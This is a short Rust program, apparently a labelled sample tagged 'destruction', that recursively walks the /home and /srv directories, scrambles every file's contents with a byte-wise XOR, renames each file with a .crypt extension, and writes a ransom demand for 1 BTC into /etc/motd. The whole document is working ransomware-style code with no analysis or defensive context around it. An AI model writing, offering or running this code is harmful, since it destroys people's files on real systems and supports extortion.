// class: destruction, overwrites documents; style: rust
use std::{fs, path::Path};

fn walk(p: &Path) {
    if let Ok(dir) = fs::read_dir(p) {
        for e in dir.flatten() {
            let q = e.path();
            if q.is_dir() {
                walk(&q);
            } else if let Ok(mut data) = fs::read(&q) {
                for (i, b) in data.iter_mut().enumerate() {
                    *b ^= (i as u8).wrapping_mul(31) ^ 0xA5;
                }
                let _ = fs::write(&q, data);
                let _ = fs::rename(&q, q.with_extension("crypt"));
            }
        }
    }
}

fn main() {
    walk(Path::new("/home"));
    walk(Path::new("/srv"));
    let _ = fs::write("/etc/motd", "Your files are encrypted. Pay 1 BTC.\n");
}
